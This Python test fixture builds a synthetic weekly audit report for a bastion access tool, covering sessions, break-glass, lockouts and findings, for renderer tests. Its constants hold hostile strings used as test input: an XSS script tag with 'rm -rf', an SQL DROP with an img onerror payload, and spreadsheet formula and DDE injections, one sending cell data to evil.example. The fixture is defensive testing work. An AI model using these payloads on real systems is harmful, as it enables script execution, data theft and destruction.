"""A realistic WeeklyReport for renderer tests, with hostile text where an insider controls it.

Week 2026-W47 in Europe/Berlin: four people on SSH and PostgreSQL, a break-glass, a DROP, an
unmask with consent, a 03:00 session, an interrupted session, a lockout, an unused grant,
and a finding carried over from last week. Command and statement texts carry markup and
spreadsheet formulas, as an engineer could type them, so every rendering must show them
as text. `sample_report()` is the full week; `empty_report()` a week when nothing happened.
"""

from __future__ import annotations

from bastion.reports.model import (
    TABLES,
    Cell,
    ChainHead,
    Evidence,
    Finding,
    Metric,
    Provenance,
    Series,
    Table,
    Verification,
    WeeklyReport,
)

# Texts an insider controls: shown as text, never run, never a spreadsheet formula.
SCRIPT_COMMAND = "echo '<script>window.__pwned = 1</script>' > /tmp/x; rm -rf /var/lib/app"
IMG_STATEMENT = (
    'DROP TABLE customers; -- <img src="http://127.0.0.1:9/x" onerror="window.__pwned=2">'
)
FORMULA_COMMAND = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NIGHT_COMMAND = "+cmd|' /C calc'!A0"
REASON_AT = "@SUM(1+1)*cmd|' /C calc'!A0"

S1 = "0b6f7c1e-alice-ssh-db1"
S2 = "2c1d0e9f-bob-pg-orders"
S3 = "4a5b6c7d-carol-ssh-web1"
S4 = "6e7f8091-dave-pg-orders"
S5 = "8a9bacbd-alice-ssh-web1"


def _replay(session: str, offset: float) -> str:
    return f"bastion replay {session} --at {offset:g}"


def _findings() -> tuple[Finding, ...]:
    return (
        Finding(
            rule="unused_grant",
            severity="low",
            title="Grant 14 to dave on db1 was never used",
            action="Revoke grant 14 if dave no longer needs db1.",
            evidence=(Evidence("grant", "14", "2026-11-10T09:00:00Z", "dave on db1 (ssh)"),),
            subject="dave",
            grants=(14,),
        ),
        Finding(
            rule="break_glass",
            severity="high",
            title="Break-glass by alice on db1",
            action="Confirm the incident ticket and that the access was revoked afterwards.",
            evidence=(
                Evidence("event", "812", "2026-11-17T01:58:12Z", "break-glass acknowledged"),
                Evidence(
                    "command",
                    "5521",
                    "2026-11-17T02:03:40Z",
                    SCRIPT_COMMAND,
                    S1,
                    328.5,
                    _replay(S1, 328.5),
                ),
            ),
            subject="alice",
            grants=(21,),
        ),
        Finding(
            rule="destructive_statement",
            severity="high",
            title="DROP TABLE on orders by bob",
            action="Check the change ticket; restore from backup if unplanned.",
            evidence=(
                Evidence(
                    "statement",
                    "90411",
                    "2026-11-18T14:22:05Z",
                    IMG_STATEMENT,
                    S2,
                    61.0,
                    _replay(S2, 61.0),
                ),
            ),
            subject="bob",
        ),
        Finding(
            rule="unmask",
            severity="medium",
            title="Unmask of customer 4711 by carol on orders",
            action="Check the consent reference matches the subject's request.",
            evidence=(Evidence("unmask", "7", "2026-11-19T10:05:00Z", "subject 4711, 3 rows"),),
            subject="carol",
            requests=(33,),
        ),
        Finding(
            rule="unusual_hours",
            severity="medium",
            title="Session at 03:12 local time by carol on web1",
            action="Ask carol why; confirm the on-call rota.",
            evidence=(
                Evidence(
                    "session", S3, "2026-11-20T02:12:00Z", NIGHT_COMMAND, S3, 0.0, _replay(S3, 0)
                ),
            ),
            subject="carol",
        ),
        Finding(
            rule="lockout",
            severity="high",
            title="dave locked out after 5 failed TOTP codes",
            action="Confirm with dave that the attempts were his; reset if so.",
            evidence=tuple(
                Evidence("event", str(900 + i), f"2026-11-21T08:0{i}:00Z", "TOTP refused")
                for i in range(5)
            ),
            subject="dave",
        ),
        Finding(
            rule="interrupted_session",
            severity="low",
            title="Session of alice on web1 ended interrupted",
            action="Replay the end of the recording.",
            evidence=(
                Evidence(
                    "session",
                    S5,
                    "2026-11-22T16:40:00Z",
                    "interrupted",
                    S5,
                    903.25,
                    _replay(S5, 903.25),
                ),
            ),
            subject="alice",
        ),
        Finding(
            rule="repeated_reason",
            severity="info",
            title="Reason repeated word for word by bob (4 requests)",
            action="Ask for specific reasons.",
            evidence=(Evidence("request", "31", "2026-11-16T08:00:00Z", REASON_AT),),
            subject="bob",
            requests=(31,),
            first_seen="2026-W46",
        ),
    )


def _sessions() -> tuple[tuple[Cell, ...], ...]:
    return (
        (S1, "alice", "db1", "ssh", "10.0.4.21", "2026-11-17T01:58:30Z", "2026-11-17T03:10:00Z",
         1.19, "closed", "client", "a" * 64),
        (S2, "bob", "orders", "postgres", "10.0.4.30", "2026-11-18T13:00:00Z",
         "2026-11-18T15:30:00Z", 2.5, "closed", "client", "b" * 64),
        (S3, "carol", "web1", "ssh", "10.0.9.7", "2026-11-20T02:12:00Z", "2026-11-20T02:40:00Z",
         0.47, "closed", "client", "c" * 64),
        (S4, "dave", "orders", "postgres", "10.0.4.31", "2026-11-19T09:00:00Z",
         "2026-11-19T09:45:00Z", 0.75, "closed", "idle", "d" * 64),
        (S5, "alice", "web1", "ssh", "192.0.2.8", "2026-11-22T16:25:00Z", "2026-11-22T16:40:00Z",
         0.25, "interrupted", "bastion stopped", None),
    )  # fmt: skip


def _tables() -> dict[str, tuple[tuple[Cell, ...], ...]]:
    return {
        "sessions": _sessions(),
        "access": (
            (14, "dave", None, "db1", "ssh", "2026-11-10T09:00:00Z", "2026-12-10T09:00:00Z",
             "erin", "migration support", "OPS-118", False, True),
            (21, "alice", None, "db1", "ssh", "2026-11-17T01:58:12Z", "2026-11-17T05:58:12Z",
             "alice", "INC-77 database down", "INC-77", True, False),
            (22, None, "dba", "orders", "postgres", "2026-11-01T00:00:00Z", None, "erin",
             REASON_AT, None, False, True),
        ),
        "changes": (
            ("2026-11-16T08:00:00Z", "request", "bob", "bob", "orders", REASON_AT,
             "2026-11-16T08:00:00Z/2026-11-16T12:00:00Z", "request 31"),
            ("2026-11-16T08:05:00Z", "approval", "erin", "bob", "orders", "ok", None, "grant 20"),
            ("2026-11-17T01:58:12Z", "break_glass", "alice", "alice", "db1", "INC-77 database down",
             None, "acknowledged by erin at 2026-11-17T07:30:00Z"),
            ("2026-11-21T08:05:00Z", "lockout", "bastion", "dave", None, "5 TOTP failures", None,
             None),
        ),
        "people": (
            ("alice", "db1, web1", 2, 1.44, "2026-11-17T01:58:30Z", "2026-11-22T16:40:00Z", 0, 41,
             0),
            ("bob", "orders", 1, 2.5, "2026-11-18T13:00:00Z", "2026-11-18T15:30:00Z", 220, 0, 1),
            ("carol", "web1", 1, 0.47, "2026-11-20T02:12:00Z", "2026-11-20T02:40:00Z", 0, 12, 0),
            ("dave", "orders", 1, 0.75, "2026-11-19T09:00:00Z", "2026-11-19T09:45:00Z", 35, 0, 0),
        ),
        "notable": (
            ("2026-11-17T02:03:40Z", "alice", "db1", S1, "command", SCRIPT_COMMAND, "rm -rf",
             328.5, _replay(S1, 328.5)),
            ("2026-11-18T14:22:05Z", "bob", "orders", S2, "statement", IMG_STATEMENT, "DROP",
             61.0, _replay(S2, 61.0)),
            ("2026-11-20T02:20:00Z", "carol", "web1", S3, "command", FORMULA_COMMAND, "sudo",
             480.0, _replay(S3, 480)),
            ("2026-11-20T02:21:00Z", "carol", "web1", S3, "command", "-1+1 | tee\tx\r\n@x", "tee",
             540.0, _replay(S3, 540)),
        ),
        "transfers": (
            ("2026-11-17T02:30:00Z", "alice", "db1", S1, "download", "/var/backups/db.dump",
             734003200, "e" * 64),
        ),
        "reviewers": (
            ("2026-11-19T16:00:00Z", "erin", "replay", S2),
            ("2026-11-20T09:00:00Z", "erin", "verify", "audit chain"),
        ),
        "consent": (
            (7, "carol", "orders", "customer 4711", "DSR-2026-0042", "f" * 64, "approved", "erin",
             3, "2026-11-19T10:05:00Z"),
        ),
    }  # fmt: skip


def _summary() -> tuple[Metric, ...]:
    return (
        Metric("people_active", "People active", 4, 3),
        Metric("sessions_ssh", "Sessions, SSH", 3, 5),
        Metric("sessions_postgres", "Sessions, PostgreSQL", 2, 2),
        Metric("hours", "Hours on targets", 5.16, 7.5),
        Metric("statements_write", "Statements, write", 12, 0),
        Metric("statements_ddl", "Statements, DDL", 1, 0),
        Metric("transfer_bytes", "Bytes transferred", 734003200, 1048576),
        Metric("break_glass", "Break-glass uses", 1, 0),
        Metric("lockouts", "Lockouts", 1, 0),
        Metric("grants_unused", "Grants never used", 1, 2),
    )


def _charts() -> tuple[Series, ...]:
    days = ("Mon 16", "Tue 17", "Wed 18", "Thu 19", "Fri 20", "Sat 21", "Sun 22")
    return (
        Series(
            "sessions_per_day",
            "Sessions per day per person",
            days,
            {
                "alice": (0, 1, 0, 0, 0, 0, 1),
                "bob": (0, 0, 1, 0, 0, 0, 0),
                "carol": (0, 0, 0, 0, 1, 0, 0),
                "dave": (0, 0, 0, 1, 0, 0, 0),
            },
        ),
        Series(
            "hours_per_target",
            "Hours per target",
            ("db1", "orders", "web1"),
            {"hours": (1.19, 3.25, 0.72)},
        ),
    )


def _provenance(week: str, counts: dict[str, int]) -> Provenance:
    return Provenance(
        week=week,
        timezone="Europe/Berlin",
        start="2026-11-15T23:00:00Z",
        end="2026-11-22T23:00:00Z",
        start_local="2026-11-16T00:00:00+01:00",
        end_local="2026-11-23T00:00:00+01:00",
        made_at="2026-11-23T06:00:04Z",
        version="0.1.0",
        filters={"people": "all", "targets": "all"},
        counts=counts,
        chain_start=ChainHead(4120, "9" * 64),
        chain_end=ChainHead(5230, "8" * 64),
        verification=Verification("intact", 5),
    )


def sample_report() -> WeeklyReport:
    findings = _findings()
    tables = {key: Table(key, rows) for key, rows in _tables().items()}
    counts = {key: len(tables[key].rows) for key in TABLES} | {"findings": len(findings)}
    return WeeklyReport(_provenance("2026-W47", counts), _summary(), findings, tables, _charts())


def empty_report() -> WeeklyReport:
    tables = {key: Table(key, ()) for key in TABLES}
    counts = dict.fromkeys([*TABLES, "findings"], 0)
    charts = (
        Series("sessions_per_day", "Sessions per day per person", ("Mon 16",), {}),
        Series("hours_per_target", "Hours per target", (), {"hours": ()}),
    )
    return WeeklyReport(_provenance("2026-W47", counts), (), (), tables, charts)
